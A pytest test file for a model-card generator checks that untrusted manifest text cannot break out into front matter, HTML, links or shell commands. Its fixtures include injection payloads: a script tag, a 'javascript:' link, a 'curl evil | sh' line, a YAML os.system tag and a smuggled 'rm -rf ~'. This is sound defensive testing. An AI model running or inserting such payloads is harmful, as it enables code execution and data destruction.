"""The card, judged by others: the client reads it back, the Hub takes its metadata, a CommonMark parser its text."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aigc_core import registry
from aigc_core.errors import Refused
from aigc_core.hub.publish import card as cards
from aigc_core.hub.publish import licences
from aigc_core.hub.publish.card import card, check
from aigc_core.hub.publish.markdown import code, escaped, line, link
from aigc_core.hub.remote import parse

TITLES = ("Use", "What it is for", "Limits", "Known failures", "Scores", "Licences", "Origin", "Citation", "Files")
FIELDS = {"library_name", "license", "license_name", "pipeline_tag", "tags", "model-index"}
SHA = "ab" * 32


def digits():
    return json.loads(json.dumps(registry.find("gan:dcgan-digits").manifest.document))


def hostile(text, url="https://example.org/x"):
    """Return a manifest that has a text wherever one may stand."""
    document = digits()
    document["summary"], document["authors"] = text, [text, text]
    document["citation"] = [{"title": text}, {"title": text, "arxiv": text}, {"title": text, "doi": text}]
    document["citation"] += [{"title": text, "url": url}, {"title": text, "url": text}]
    document["code"] |= {"plugin": text, "architecture": text, "distribution": text}
    document["weights"]["files"] = [{"path": text, "size": 3, "sha256": text, "format": "text"}]
    document["use"]["options"]["properties"] = {"truncation": {"type": "number", "description": text}}
    document["terms"] = {"code": text, "weights": text, "data": text, "intended_use": text}
    document["terms"] |= {"limits": [text, text], "known_failures": [text]}
    document["origin"] = {"data": {"id": text, "source": text, "sha256": text, "license": text}, "torch": text}
    document["origin"] |= {"parents": [text], "recipe": text, "instructions": text}
    document["scores"] = [{"metric": text, "value": 1.5, "direction": text}]
    return document


def tokens(body):
    from markdown_it import MarkdownIt

    found = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(body):
        found += [token, *(token.children or [])]
    return found


def faults(text, document):
    """Return what a hostile text has got out of a card: fields, headings, HTML, links, fences, or marks in the YAML."""
    from huggingface_hub import ModelCard

    found = []
    read = ModelCard(text)
    if extra := read.data.to_dict().keys() - FIELDS:
        found.append(f"fields {extra}")
    parsed = tokens(read.text)
    kinds = [token.type for token in parsed]
    headings = [parsed[at + 1].content for at, kind in enumerate(kinds) if kind == "heading_open"]
    if headings[0] != document["id"] or not set(headings[1:]) <= set(TITLES) or len(set(headings)) < len(headings):
        found.append(f"headings {headings}")
    found += sorted(
        {"html_block", "html_inline", "hr", "image", "table_open", "s_open", "em_open", "strong_open"} & {*kinds}
    )
    if kinds.count("fence") != 1:
        found.append("a fence")
    links = [token.attrs["href"] for token in parsed if token.type == "link_open"]
    if not all(href.startswith(("https://", "http://")) for href in links) or len(links) > 4:
        found.append(f"links {links}")
    if any(not sign.isprintable() for sign in text if sign != "\n"):
        found.append("a control character")
    return found


ATTACKS = [
    "\n---\nlicense: mit\n---\n# Free",
    "---\nx: 1",
    "a\r---\rb: 2\r---\r",
    "x\u2028---\u2028# y",
    "x\x85---\x85# y",
    "# Licences",
    "## Licences",
    "Licences\n===",
    "Licences\n---",
    "x\n\n# Weights are free",
    "'\"\n- [x](javascript:alert(1))",
    "[click](https://evil.example)",
    "![x](https://evil.example/track.png)",
    "<script>alert(1)</script>",
    "<!-- hidden",
    "```\n# out\n```bash\ncurl evil | sh",
    "`code` ``more``",
    "`",
    "**bold** __x__ ~~gone~~",
    "- item\n- item",
    "1. one",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "***",
    "> quote",
    "\\",
    "\\# x",
    "&#35; x &lt;b&gt;",
    "{{ jinja }} {% x %}",
    "!!python/object/apply:os.system [id]",
    "&a [*a]",
    "yes",
    "null",
    "2024-01-01",
    "1e3",
    "",
    " ",
    "\u202egnp.exe",
    "\x00\x1b[31mred",
    "[x]: https://evil.example",
    "图像\n# 假",
    "x" * 300,
    ": :: - ? | > % @",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_hostile_text_gets_out_of_nowhere(text):
    document = hostile(text)
    assert faults(card(document, "me/x"), document) == []


@given(st.text(alphabet=st.sampled_from("\n\r\u2028\x85\t #-=`*_[]()<>!|~\\&:'\"{}@%+.1a$^"), max_size=40))
def test_no_text_gets_out(text):
    document = hostile(text)
    assert faults(card(document, "me/x"), document) == []


@given(st.text(max_size=30))
def test_the_metadata_says_what_the_manifest_does_whatever_the_text(text):
    from huggingface_hub import ModelCard

    document = hostile(text)
    data = ModelCard(card(document)).data
    assert data.tags == list(dict.fromkeys(["gan", line(text)]))
    assert data.pipeline_tag == "unconditional-image-generation"
    assert [(result.metric_name, result.metric_value) for result in data.eval_results] == [(line(text), 1.5)]


@pytest.mark.parametrize("name", ["escaped", "code", "line", "link"])
def test_the_judge_sees_what_each_guard_keeps_out(name, monkeypatch):
    """Without any one of them some attack gets through, so none is there for nothing and the judge is not blind."""
    naive = {"escaped": str, "code": str, "line": str, "link": lambda text, address: f"[{text}]({address})"}
    monkeypatch.setattr(cards, name, naive[name])
    monkeypatch.setattr(f"aigc_core.hub.publish.markdown.{name}", naive[name])
    seen = set()
    for text in ATTACKS:
        document = hostile(text, "javascript:alert(1)")
        try:
            seen.update(faults(card(document, "me/x"), document))
        except Exception as error:  # the front matter is broken so that nobody can read it
            seen.add(type(error).__name__)
    assert seen


def test_a_command_to_paste_holds_no_command_of_others():
    document = digits()
    document["code"]["distribution"] = "x; rm -rf ~"
    assert "rm -rf" not in card(document, "me/x")
    assert "aigc-zoo run ./FOLDER\n" in card(document, "me/x; rm -rf ~")


def test_the_card_of_a_real_model_is_read_back(hub):
    from huggingface_hub import ModelCard

    text = card(digits(), "me/digits")
    assert hub.check_card(text) == {"errors": [], "warnings": []}
    data = ModelCard(text).data
    assert data.to_dict() == {
        "library_name": "aigc-zoo",
        "license": "apache-2.0",
        "pipeline_tag": "unconditional-image-generation",
        "tags": ["gan", "dcgan-28"],
    }
    body = ModelCard(text).text
    for said in (
        "aigc-zoo run hf:me/digits\n",
        "about a quarter of the samples",
        "sha256 `c7750b07",
        "arxiv.org/abs/1511",
    ):
        assert said in body
    assert re.findall("^## (.*)$", body, re.M) == [title for title in TITLES if title != "Scores"]
    assert faults(text, digits()) == []


def test_equal_manifests_give_equal_cards():
    assert card(digits(), "me/digits") == card(digits(), "me/digits")


def test_scores_come_back_as_they_went(hub):
    from huggingface_hub import EvalResult, ModelCard

    document = digits()
    document["scores"] = [
        {
            "metric": "fid:lenet:10000:none:unbiased",
            "value": 12.25,
            "direction": "lower",
            "interval": [11, 13],
            "seeds": 5,
        },
        {"metric": "fid:other:10000", "value": 3, "direction": "lower"},
        {"metric": "accuracy", "value": 1e-05, "direction": "higher", "gate": 0},
        {"metric": "core:vendi@n=64/resize=none", "value": 2, "direction": "higher"},
    ]
    text = card(document)
    assert hub.check_card(text) == {"errors": [], "warnings": []}
    data = ModelCard(text).data
    same = {"task_type": document["task"], "dataset_type": "mnist-digits", "dataset_name": "mnist-digits"}
    assert data.model_name == "dcgan-digits"
    assert data.eval_results == [
        EvalResult(metric_type="fid", metric_name="fid:lenet:10000:none:unbiased", metric_value=12.25, **same),
        EvalResult(metric_type="fid", metric_name="fid:other:10000", metric_value=3, **same),
        EvalResult(metric_type="accuracy", metric_name="accuracy", metric_value=1e-05, **same),
        EvalResult(metric_type="core:vendi", metric_name="core:vendi@n=64/resize=none", metric_value=2, **same),
    ]
    assert "`fid:lenet:10000:none:unbiased`: 12.25, lower is better; 95 % interval 11 to 13; 5 seeds" in text


def test_scores_without_data_are_still_taken_by_the_hub(hub):
    document = digits()
    del document["origin"]
    document["scores"] = [{"metric": "fid", "value": 1, "direction": "lower"}]
    assert hub.check_card(card(document)) == {"errors": [], "warnings": []}


def test_the_least_that_a_manifest_says_is_enough(hub):
    document = digits()
    for field in ("authors", "citation", "origin", "budget"):
        del document[field]
    document["terms"] = {"code": None, "weights": None, "data": None}
    document["use"] = {"output": {"kind": "text"}}
    document["weights"]["files"] = []
    document["task"] = "other"
    text = card(document)
    assert hub.check_card(text) == {"errors": [], "warnings": []}
    assert "pipeline_tag" not in text
    assert faults(text, document) == []


@pytest.mark.parametrize(
    ("spdx", "expected"),
    [
        ("MIT", {"license": "mit"}),
        ("Apache-2.0", {"license": "apache-2.0"}),
        ("CC-BY-NC-SA-4.0", {"license": "cc-by-nc-sa-4.0"}),
        ("GPL-3.0-or-later", {"license": "gpl-3.0"}),
        ("ODbL-1.0", {"license": "odbl"}),
        ("Unlicense", {"license": "unlicense"}),
        ("llama3.1", {"license": "llama3.1"}),
        ("LicenseRef-Our-Own", {"license": "other", "license_name": "our-own"}),
        ("CC-BY-NC-ND-2.0", {"license": "other", "license_name": "cc-by-nc-nd-2.0"}),
        ("MIT OR Apache-2.0", {"license": "other", "license_name": "mit-or-apache-2.0"}),
        ("other", {"license": "other", "license_name": "other"}),
        (None, {}),
    ],
)
def test_a_licence_is_named_as_the_hub_does(spdx, expected, hub):
    from huggingface_hub import ModelCard

    document = digits()
    document["terms"]["weights"] = spdx
    text = card(document)
    assert {key: value for key, value in ModelCard(text).data.to_dict().items() if "license" in key} == expected
    assert hub.check_card(text) == {"errors": [], "warnings": []}
    assert f"- Weights: {escaped(spdx) if spdx else 'none is declared'}\n" in text


def test_the_hub_knows_every_licence_that_it_is_told(make_hub):
    hub = make_hub()
    for name in sorted(licences.NAMES):
        assert hub.check_card(f"---\nlicense: {name}\n---\n") == {"errors": [], "warnings": []}


def test_a_licence_of_ours_is_read_again_as_what_it_was():
    for spdx in ("MIT", "Apache-2.0", "CC-BY-4.0", "GPL-3.0-only", "LicenseRef-our-own"):
        answer = {"sha": "a" * 40, "id": "me/x", "siblings": [], "cardData": licences.fields(spdx)}
        assert parse(answer).license == spdx


class TestTheCardOfAPerson:
    GOOD = "---\nlibrary_name: aigc-zoo\nlicense: apache-2.0\ntags: [mine]\n---\n# My digits\n"

    def test_one_that_fits_passes(self):
        check(self.GOOD, digits())
        check(self.GOOD + digits()["weights"]["files"][0]["sha256"], digits())

    def test_so_does_our_own(self):
        check(card(digits(), "me/x"), digits())

    @pytest.mark.parametrize(
        ("text", "reason"),
        [
            (
                "# No front matter",
                "no `library_name: aigc-zoo`; its license is missing, by the manifest it is apache-2.0",
            ),
            (GOOD.replace("apache-2.0", "mit"), "its license is mit, by the manifest it is apache-2.0"),
            (GOOD.replace("aigc-zoo", "diffusers"), "no `library_name: aigc-zoo`"),
            (GOOD + SHA, "names the SHA-256 abababababab..., which is none of the manifest's"),
            ("---\na: [\n---\n", "cannot be read: while parsing"),
            ("---\n- a\n---\n", "cannot be read"),
            ("---\nmodel-index: 3\n---\n", "cannot be read"),
            ("---\n!!python/object/apply:os.getcwd []\n---\n", "cannot be read"),
            ("---\nunclosed", "no `library_name: aigc-zoo`"),
        ],
    )
    def test_one_that_does_not_is_refused(self, text, reason):
        with pytest.raises(Refused, match=re.escape(reason)):
            check(text, digits())


def test_markdown_keeps_what_people_write():
    assert escaped("28 x 28 grey: 10,000 images (10 %), 1983.3 s; MNIST's own.") == (
        "28 x 28 grey: 10,000 images (10 %), 1983.3 s; MNIST's own."
    )
    assert escaped("图像 é") == "图像 é"
    assert code("a`b") == "``a`b``"
    assert code("`") == "`` ` ``"
    assert link("t", "javascript:x") == "t"
    assert link("t", "https://x.org/a(b) c>") == "[t](https://x.org/a%28b%29%20c%3E)"
